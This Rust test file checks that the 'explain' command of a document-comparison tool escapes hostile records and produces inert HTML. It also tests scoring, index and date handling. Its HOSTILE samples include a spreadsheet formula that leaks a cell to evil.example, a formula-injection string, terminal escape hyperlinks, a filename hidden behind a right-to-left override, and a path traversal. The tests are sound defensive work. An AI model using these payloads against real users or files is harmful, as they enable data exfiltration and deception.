//! The `explain` command. `tests/golden/explain-*.toml` have examples of its output.

use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use crate::common::program::said;
use serde_json::Value;
use tempfile::TempDir;
use wirecopy::text::escaping::is_unsafe;

const HOSTILE: [[&str; 2]; 3] = [
    [
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open me\")",
        "@SUM(1+9)*cmd",
    ],
    [
        "bees\u{1b}[1m\u{1b}]8;;https://evil.example\u{7}click",
        "bees-\u{202e}gpj.exe",
    ],
    ["chess,\"1\"\n2", "../../../../tmp/chess"],
];

/// Asserts that a page has no elements and attributes but those of its template.
fn assert_inert(page: &str) {
    const KNOWN: [&str; 16] = [
        "html", "head", "body", "h1", "h2", "ul", "li", "table", "thead", "tbody", "tr", "th",
        "td", "p", "span", "sup",
    ];
    let (_, body) = page.split_once("</style>").expect("a style");
    for tag in body.split('<').skip(1) {
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        assert!(KNOWN.contains(&&*name), "<{tag}");
        let (attributes, _) = tag.split_once('>').expect("a tag ends");
        for word in ["href", "src", "style=", " on"] {
            assert!(!attributes.contains(word), "<{tag}");
        }
    }
    assert!(page.contains("default-src 'none'"), "a policy");
}

fn json(arguments: &[&str]) -> Value {
    let output = explain(&[arguments, &["--format", "json"]].concat());
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    serde_json::from_slice(&output.stdout).expect("JSON")
}

fn explain(arguments: &[&str]) -> Output {
    run("explain", arguments)
}

fn run(command: &str, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_wirecopy"))
        .arg(command)
        .args(arguments)
        .stdin(Stdio::null())
        .output()
        .expect("the program runs")
}

fn data(name: &str) -> String {
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("data");
    data.join(name).display().to_string()
}

#[test]
fn hostile_records_are_harmless_in_every_format() {
    let file = data("bad/hostile.jsonl");
    for [a, b] in HOSTILE {
        for format in ["text", "json", "html"] {
            for width in ["60", "160"] {
                let output = explain(&[a, b, &file, "--format", format, "--width", width]);
                assert_eq!(output.status.code(), Some(0), "{}", said(&output));
                let printed = String::from_utf8(output.stdout).expect("UTF-8");
                let raw = printed.chars().find(|&c| c != '\n' && is_unsafe(c));
                assert_eq!(raw, None, "{a} as {format}");
                if format == "html" {
                    assert_inert(&printed);
                }
            }
        }
    }
}

#[test]
fn an_html_output_name_gives_a_page() {
    let at = TempDir::new().expect("a directory");
    let page = at.path().join("pair.html");
    let file = data("newsroom.jsonl");
    let target = page.display().to_string();
    let output = explain(&["mn-0303-ruling", "tp-0304-ruling", &file, "-o", &target]);
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    assert!(output.stdout.is_empty());
    let page = fs::read_to_string(page).expect("the page");
    assert!(page.starts_with("<!doctype html>"), "{page}");
    assert_inert(&page);
    assert!(page.contains("<sup>1</sup>"), "passages are numbered");
}

#[test]
fn two_text_files_are_enough() {
    let at = TempDir::new().expect("a directory");
    let text = "The ferry to the island will not sail on Monday, \
                for the crew have gone to look for the moth that ate the flag.";
    let names = ["one.txt", "two"].map(|name| at.path().join(name).display().to_string());
    let [one, two] = &names;
    fs::write(one, text).expect("a file");
    fs::write(two, text.to_uppercase()).expect("a file");
    let explanation = json(&[one, two]);
    assert_eq!(explanation["relation"], "exact");
    assert_eq!(explanation["documents"]["a"]["id"], **one);
    // The name is used as given: no other file is read.
    assert_eq!(explanation["documents"]["b"]["file"], **two);
}

#[test]
fn the_order_of_ids_does_not_matter() {
    let file = data("newsroom.jsonl");
    let one = json(&["mn-0303-ruling", "tp-0304-ruling", &file]);
    assert_eq!(one, json(&["tp-0304-ruling", "mn-0303-ruling", &file]));
    assert_eq!(one["scores"]["jaccard"], 0.5259);
    assert_eq!(one["scores"]["containment_a"], 0.6758);
    assert_eq!(one["scores"]["longest_passage"], 84);
}

#[test]
fn documents_of_an_index_are_explained_too() {
    let at = TempDir::new().expect("a directory");
    let lines = fs::read_to_string(data("newsroom.jsonl")).expect("the newsroom can be read");
    let of_day = |day: &str| -> String {
        let wanted = format!("-{day}-");
        let is_wanted = |line: &&str| {
            line.contains(&format!("\"id\": \"mn{wanted}"))
                || line.contains(&format!("\"id\": \"tp{wanted}"))
        };
        lines
            .lines()
            .filter(is_wanted)
            .map(|line| format!("{line}\n"))
            .collect()
    };
    let path = |name: &str| at.path().join(name).display().to_string();
    let [first, second, index] = ["first.jsonl", "second.jsonl", "news.index"].map(path);
    fs::write(&first, of_day("0303")).expect("a file");
    fs::write(&second, of_day("0304")).expect("a file");
    let fixed = ["-q", "--keep-boilerplate", "--index", &index];
    run(
        "scan",
        &[
            &[first.as_str(), "-o", "/dev/null", "--format", "csv"],
            &fixed[..],
        ]
        .concat(),
    );

    let ids = ["mn-0303-ruling", "tp-0304-ruling"];
    let tonight = json(&[&ids[..], &[&second], &fixed[1..]].concat());
    assert_eq!(tonight["written"], true);
    assert_eq!(tonight["documents"]["a"]["file"], Value::Null);
    assert_eq!(tonight["documents"]["b"]["file"], *second);

    run(
        "scan",
        &[
            &[second.as_str(), "-o", "/dev/null", "--format", "csv"],
            &fixed[..],
        ]
        .concat(),
    );
    let later = json(&[&ids[..], &fixed[1..]].concat());
    assert_eq!(later["written"], false);
    assert_eq!(later["reasons"][0]["kind"], "seen_before");
    // The clusters are those of the night the pair was found.
    for same in ["relation", "scores", "passages", "clusters"] {
        assert_eq!(later[same], tonight[same], "{same}");
    }
}

#[test]
fn explain_and_tune_tell_about_dates() {
    let place = TempDir::new().expect("a temporary directory can be created");
    let corpus = place.path().join("in.jsonl");
    let line = |id: &str, date: &str| {
        format!("{{\"id\": \"{id}\", \"text\": \"The mill turns.\", \"published\": \"{date}\"}}\n")
    };
    let lines = [line("a", "03/04/2026"), line("b", "one fine day")].concat();
    fs::write(&corpus, lines).expect("the test directory is writable");
    let corpus = corpus.display().to_string();
    for (command, arguments) in [("explain", &["a", "b", &corpus][..]), ("tune", &[&corpus])] {
        let told = said(&run(command, arguments));
        assert!(
            told.contains("dates not understood: \"03/04/2026\", \"one fine day\""),
            "{told}"
        );
        assert!(
            told.contains("dates: day or month first is not told by"),
            "{told}"
        );
        let quiet = said(&run(command, &[arguments, &["-q"]].concat()));
        assert!(!quiet.contains("dates"), "{quiet}");
    }
}
